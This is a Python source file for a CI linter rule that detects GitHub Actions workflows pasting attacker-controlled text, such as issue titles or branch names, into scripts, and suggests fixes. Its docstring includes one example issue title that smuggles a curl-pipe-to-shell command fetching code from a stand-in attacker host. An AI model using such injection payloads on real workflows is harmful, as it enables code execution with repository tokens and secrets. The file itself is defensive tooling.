from __future__ import annotations

import re

from cicdlint import dataflow
from cicdlint.contexts import classify, events_carrying
from cicdlint.dataflow import Origin, worse
from cicdlint.expressions import Binary, Literal, Not, analyse, find_expressions, path_of
from cicdlint.model import as_map, as_scalar, as_seq, text
from cicdlint.rule import Issue, Location, rule
from cicdlint.yamlpos import Scalar

PR_FIELDS = ("github.head_ref", "github.event.pull_request.")
SAME_REPOSITORY = ("github.event.pull_request.head.repo.full_name", "github.event.workflow_run.head_repository.full_name")
FORK_FLAGS = ("github.event.pull_request.head.repo.fork", "github.event.workflow_run.head_repository.fork")
# Fork pull request events run the fork's own workflow file with no secrets: an injection there
# gives an attacker little they did not have.
UNPRIVILEGED_PR_EVENTS = ("pull_request", "pull_request_review", "pull_request_review_comment")
RUNNER_VARIABLES = {
    "github.head_ref": "GITHUB_HEAD_REF",
    "github.base_ref": "GITHUB_BASE_REF",
    "github.ref": "GITHUB_REF",
    "github.ref_name": "GITHUB_REF_NAME",
    "github.actor": "GITHUB_ACTOR",
    "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
    "github.repository": "GITHUB_REPOSITORY",
    "github.event_name": "GITHUB_EVENT_NAME",
}
RESERVED_VARIABLES = {"PATH", "HOME", "SHELL", "USER", "PWD", "IFS", "TERM", "LANG", "TMPDIR", "HOSTNAME", "CI", "ENV"}
# Code inputs whose language has no environment variables to pass the text through.
NO_ENV_LANGUAGES = ("template", "yq")


@rule(
    id="template-injection",
    kinds=("workflow", "action"),
    severity="error",
    summary="Attacker-controllable text is expanded with `${{ }}` into a script",
    tags=("security", "injection"),
    security_severity=9.0,
    confidence="high",
    options={"report-untraced": False},
    options_schema={
        "report-untraced": {
            "type": "boolean",
            "description": "Also report (as low-confidence notes) step and job outputs, environment variables and "
            "matrix values computed at run time whose source could not be traced",
        }
    },
)
def check(doc, ctx):
    """## What it does
    Finds `${{ }}` expressions whose text an outsider controls, expanded into code: `run:`
    scripts (workflows and composite actions), the script of SSH deploy actions such as
    `appleboy/ssh-action`, and the inputs of popular actions that run or evaluate their input as
    code (`actions/github-script` `script`, `azure/cli` and `azure/powershell` `inlineScript`,
    `addnab/docker-run-action` `run` and `options`, `mikefarah/yq` `cmd`,
    `uraimo/run-on-arch-action` `run`, `nick-fields/retry` `command`,
    `jannekem/run-python-script-action` `script`, `tibdex/backport` templates and more: the
    table is `cicdlint/data/action-dataflow.json`).

    - Error: a context anyone can set, such as `github.event.issue.title`,
      `github.event.pull_request.body`, `github.event.comment.body`, `github.head_ref` or
      `github.event.head_commit.message` (in any case: `GitHub.Event.Issue.Title`,
      `github['event']['issue']['title']`), also through `format()`, `join()`, `toJSON()` or
      `||`, and such text carried by another value, followed to where it is set:
      `${{ env.NAME }}` (workflow, job or step `env:`, or `$GITHUB_ENV` written by an earlier
      step), `${{ matrix.KEY }}` (a matrix built with `fromJSON()` or with expressions in its
      values or `include`), `${{ steps.ID.outputs.NAME }}` (written to `$GITHUB_OUTPUT` with
      `>>`, `tee -a`, `printf` or `::set-output`, or an output of an action that copies its input
      or returns an outsider's text, such as `peter-evans/find-comment`'s `comment-body`),
      `${{ needs.JOB.outputs.NAME }}`, and the shell variables of the script that writes them
      (`T="$TITLE"; echo "title=$T" >> "$GITHUB_OUTPUT"`, loops, `read`, `$(echo "$T" | cut ...)`,
      `jq` on `$GITHUB_EVENT_PATH`). The message names the path (`${{ env.TITLE }}` holds
      github.event.issue.title, env.TITLE is set in the job's `env:`). Medium confidence through
      step and job outputs and matrices, and when only `pull_request` events deliver the text (a
      fork's run has no secrets); not reported when none of the workflow's triggers delivers it
      (the value is empty).
    - Note (low confidence): other text that is not constant: workflow and action inputs
      (`inputs.*`, `github.event.inputs.*`) except inputs of type `boolean`, `number` and
      `choice` (a `choice` under `workflow_dispatch` that `workflow_call` declares as a string
      is reported: a caller passes any text), `repository_dispatch` payloads, branch and tag names (`github.ref_name`),
      release and label text, and values traced to one of these.

    Contexts with a fixed format (SHAs, ids, numbers, `github.repository`, logins), values
    traced to constants or passed through a filter that keeps only safe characters
    (`tr -cd '[:alnum:]'`), values computed at run time that cannot be traced (reported as notes
    with the `report-untraced` option) and expressions that only compare
    (`${{ github.event.issue.title == 'bug' }}`) are not reported.
    Passing a value through `env:` and using it as `"$VAR"` in the script is the fix, so shell
    variables are never reported here.

    ## Why is this bad?
    GitHub replaces `${{ }}` in the script's text before the shell (or Node, or Python) parses
    it, so quotes do not protect the value. An issue titled `a"; curl -sSf evil.example | sh; "`
    turns `echo "${{ github.event.issue.title }}"` into a command that runs with the job's token
    and secrets. In `pull_request_target`, `issue_comment` and `workflow_run` workflows that
    token can usually write to the repository.

    ## Example
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: ${{ github.event.issue.title }}"
          - uses: actions/github-script@v7
            with:
              script: |
                console.log("${{ github.event.issue.body }}")
    ```

    ## Use instead
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
          - uses: actions/github-script@v7
            with:
              script: |
                console.log(context.payload.issue.body)
    ```
    Put the expression in an `env:` entry and use the variable in the script (`"$TITLE"` in
    bash, `$env:TITLE` in PowerShell, `process.env.TITLE` in JavaScript); in
    `actions/github-script` read event fields from `context.payload`.
    """
    flow = dataflow.of(ctx)
    triggers = flow.triggers
    hidden = ("safe",) if ctx.options.get("report-untraced") else ("safe", "opaque")
    for step in ctx.steps():
        for scalar, language, where in _code(step):
            if "${{" not in scalar.value:
                continue
            for expression in find_expressions(scalar.value):
                origin = _expression_origin(flow, expression, step)
                if origin is None or origin.level in hidden:
                    continue
                span = ctx.locate(scalar, expression.start, expression.length)
                yield _issue(ctx, expression, origin, language, where, span, triggers)


def _expression_origin(flow, expression, step) -> Origin | None:
    """The least trusted origin of the text an expression expands to (None when no context flows)."""
    origin = None
    for path in expression.flowing_contexts():
        candidate = flow.context(path, step)
        if candidate.level == "untrusted" and candidate.source.startswith(PR_FIELDS) and _same_repository_only(step):
            candidate = Origin(
                "unknown",
                candidate.source,
                "text of a pull request from a branch of this repository (the `if:` keeps forks out): "
                "only people with write access choose it",
                candidate.hops,
            )
        origin = worse(origin, candidate)
    return origin


# --- where code is ---------------------------------------------------------------------------------


def _code(step):
    """(scalar, language, where) for each piece of code in the step: its `run:`, the script of an
    SSH action, the code inputs of the actions in cicdlint/data/action-dataflow.json."""
    found, seen = [], set()
    for scalar, where in step.scripts():
        seen.add(id(scalar))
        found.append((scalar, _language(step) if where == "run" else "shell", where))
    action = step.action_name
    inputs = dataflow.code_inputs(action)
    if inputs and step.with_ is not None:
        for key, _, value in step.with_.items():
            language = inputs.get(key.lower())
            if language is None or not isinstance(value, Scalar) or id(value) in seen:
                continue
            seen.add(id(value))
            if language == "ssh":
                found.append((value, "shell", "ssh"))
            else:
                found.append((value, language, action))
    return found


def _language(step) -> str:
    """The language of a `run:` script: shell, pwsh or python."""
    shell = step.shell
    if shell is None and step.job is not None:
        for owner in (step.job.node, step.job.workflow.node):
            defaults = as_map(owner.get("defaults"))
            run = as_map(defaults.get("run")) if defaults else None
            if run is not None and text(run.get("shell")):
                shell = text(run.get("shell"))
                break
    if shell is not None:
        first = shell.split()[0].lower().rsplit("/", 1)[-1] if shell.split() else ""
        if first in ("pwsh", "powershell"):
            return "pwsh"
        if first == "cmd":
            return "cmd"
        return "python" if first.startswith("python") else "shell"
    if step.job is None:
        return "shell"
    runs_on = step.job.runs_on
    labels = [runs_on.value] if as_scalar(runs_on) else [text(item) or "" for item in as_seq(runs_on)]
    return "pwsh" if any("windows" in label.lower() for label in labels) else "shell"


def _same_repository_only(step) -> bool:
    """Does the step's or its job's `if:` only let pull requests from this repository's branches in?"""
    for node in (step.if_, step.job.if_ if step.job is not None else None):
        if not isinstance(node, Scalar):
            continue
        found = find_expressions(node.value)
        body = found[0].body if len(found) == 1 else node.value
        analysis = analyse(body)
        if analysis.parsed and any(_keeps_forks_out(term) for term in _conjuncts(analysis.tree)):
            return True
    return False


def _conjuncts(tree):
    if isinstance(tree, Binary) and tree.op == "&&":
        return _conjuncts(tree.left) + _conjuncts(tree.right)
    return [tree]


def _keeps_forks_out(term) -> bool:
    if isinstance(term, Not):
        return path_of(term.operand) in FORK_FLAGS
    if not isinstance(term, Binary) or term.op not in ("==", "!="):
        return False
    for side, other in ((term.left, term.right), (term.right, term.left)):
        path = path_of(side)
        if term.op == "==" and path in SAME_REPOSITORY:
            if path_of(other) == "github.repository":
                return True
            if isinstance(other, Literal) and isinstance(other.value, str) and "/" in other.value:
                return True
        if path in FORK_FLAGS and isinstance(other, Literal) and isinstance(other.value, bool):
            return (term.op == "==") == (other.value is False)
    return False


def _only_unprivileged(origin: Origin, triggers) -> bool:
    carriers = origin.events or events_carrying(origin.source)
    if not triggers or "workflow_call" in triggers or carriers is None:
        return False
    delivering = [event for event in triggers if event in carriers]
    return bool(delivering) and all(event in UNPRIVILEGED_PR_EVENTS for event in delivering)


# --- messages --------------------------------------------------------------------------------------


_WHO = [
    ("github.event.issue.", "Anyone who can open an issue controls {path}"),
    ("github.event.pull_request.head.repo.", "The owner of the pull request's fork sets {path}"),
    ("github.event.pull_request.head.", "Anyone who opens a pull request chooses its branch name, {path}"),
    ("github.head_ref", "Anyone who opens a pull request chooses its branch name, {path}"),
    ("github.event.pull_request.", "Anyone who can open a pull request controls {path}"),
    ("github.event.comment.", "Anyone who can comment controls {path}"),
    ("github.event.review.", "Anyone who can review a pull request controls {path}"),
    ("github.event.review_comment.", "Anyone who can review a pull request controls {path}"),
    ("github.event.discussion.", "Anyone who can start a discussion controls {path}"),
    ("github.event.answer.", "Anyone who can answer a discussion controls {path}"),
    ("github.event.pages.", "Anyone who can edit the wiki controls {path}"),
    ("github.event.changes.", "Anyone who can edit an issue or a pull request controls {path}"),
    ("github.event.workflow_run.head_commit.", "Whoever writes the commits of the triggering run controls {path}"),
    ("github.event.workflow_run.", "Whoever opens the pull request behind the triggering run controls {path}"),
    ("github.event.commits.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
    ("github.event.head_commit.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
    ("github.event.merge_group.", "Whoever writes the commits of the merged pull requests controls {path}"),
    ("github.event.check_suite.", "Whoever pushes the branch or commits being checked controls {path}"),
    ("github.event.check_run.", "Whoever pushes the branch being checked controls {path}"),
]


def _who(source: str, who: str = "") -> str:
    if who:
        return who
    for prefix, sentence in _WHO:
        if source.startswith(prefix):
            return sentence.format(path=source)
    return f"{source} is {classify(source).reason}"


def _variable_name(path: str) -> str:
    parts = [part for part in path.split(".") if part not in ("*", "")]
    if parts[:2] == ["github", "event"]:
        parts = parts[2:]
        if parts and parts[0] in ("inputs", "client_payload") and len(parts) > 1:
            parts = parts[1:]
        if len(parts) > 2:
            parts = parts[-2:]
        if parts and parts[0] in ("commits",):
            parts[0] = "commit"
    elif parts and parts[0] in ("env", "inputs", "matrix", "vars"):
        parts = parts[1:]
    elif parts and parts[0] in ("steps", "needs", "jobs") and len(parts) >= 4:
        parts = parts[3:]
    else:
        parts = parts[-1:]
    words = "_".join(re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", part) for part in parts)
    name = re.sub(r"[^A-Za-z0-9]+", "_", words).strip("_").upper() or "VALUE"
    if name[0].isdigit() or name in RESERVED_VARIABLES or name.startswith(("GITHUB_", "RUNNER_", "ACTIONS_")):
        name = "INPUT_" + name if path.startswith(("inputs.", "github.event.inputs.")) else "CI_" + name
    return name


def _use(language: str, name: str) -> str:
    return {
        "pwsh": f"$env:{name}",
        "cmd": f"%{name}%",
        "python": f'os.environ["{name}"]',
        "js": f"process.env.{name}",
    }.get(language, f'"${name}"')


def _issue(ctx, expression, origin: Origin, language: str, where: str, span, triggers) -> Issue:
    body = expression.body
    single = path_of(expression.tree) if expression.tree is not None else None
    related = []
    for hop in origin.hops:
        hop_span = hop.span(ctx.doc)
        if hop_span is not None:
            related.append(Location(ctx.doc.path, hop_span, hop.describe()))
    fix = _fix(single, origin, body, language, where)
    holds = _holds(body, origin)
    if origin.level == "untrusted":
        tail = f"{holds}{_who(origin.source, origin.who)}, and ${{{{ }}}} pastes it into the {_kind(language, where)} before it runs."
        unprivileged = _only_unprivileged(origin, triggers)
        if unprivileged:
            tail += " Only pull_request events deliver it here, and a fork's run gets no secrets."
        confidence = "medium" if unprivileged or _via_output(origin) else None
        return Issue(span, f"{fix}. {tail}", confidence=confidence, related=related)
    reason = origin.reason or classify(origin.source).reason
    if not origin.hops and single is not None and single == origin.source:
        tail = f"It is {reason}"
    else:
        tail = f"{holds}{origin.source} is {reason}"
    return Issue(
        span,
        f"{fix}. {tail}, and its text becomes part of the {_kind(language, where)}.",
        severity="note",
        confidence="low",
        related=related,
    )


def _holds(body: str, origin: Origin) -> str:
    """"`${{ env.TITLE }}` holds github.event.issue.title (env.TITLE is set in the job's `env:`). """
    if not origin.hops:
        return ""
    return f"`${{{{ {body} }}}}` holds {origin.source} ({origin.trail()}). "


def _via_output(origin: Origin) -> bool:
    """Through a step or job output, or a matrix: traced through code we read only in part."""
    return any(hop.what.startswith(("steps.", "needs.", "jobs.", "matrix.", "the matrix")) for hop in origin.hops)


def _kind(language: str, where: str) -> str:
    if where == "ssh":
        return "remote shell script"
    return {
        "js": "JavaScript",
        "python": "Python script",
        "pwsh": "PowerShell script",
        "cmd": "cmd script",
        "template": f"template that {where} evaluates as code",
        "yq": "yq expression",
    }.get(language, "shell script")


def _fix(single: str | None, origin: Origin, body: str, language: str, where: str) -> str:
    if single is not None and single.startswith("env.") and where == "run":
        # The variable as the environment spells it (`env.title` reads TITLE; the shell does not).
        defined = origin.hops[0].what if origin.hops and origin.hops[0].what.lower() == single.lower() else single
        return f"Use {_use(language, defined.split('.', 1)[1])} in the script instead of ${{{{ {body} }}}}"
    if single in RUNNER_VARIABLES and language in ("shell", "pwsh") and where == "run":
        name = RUNNER_VARIABLES[single]
        return f"Use {_use(language, name)} (set by the runner) instead of expanding {single} in the script"
    name = _variable_name(single or origin.source)
    subject = single or f"${{{{ {body} }}}}"
    if language == "js" and single is not None and single.startswith("github.event."):
        return (
            f"Read {single} from context.payload.{single[len('github.event.'):]} (or pass it through env: and "
            f"process.env.{name}) instead of expanding it in the script"
        )
    if where == "ssh":
        return (
            f"Pass {subject} to the remote script through the step's env: ({name}: ${{{{ {body} }}}}) and the "
            f"action's envs: input, then use \"${name}\", instead of expanding it in the script"
        )
    if language in NO_ENV_LANGUAGES:
        return (
            f"Do not expand {subject} in the {_kind(language, where)}: validate it in an earlier step (or drop it) "
            "so that only text you wrote is evaluated"
        )
    return (
        f"Pass {subject} to the script through an environment variable (env: {name}: ${{{{ {body} }}}}, then "
        f"{_use(language, name)}) instead of expanding it in the script"
    )
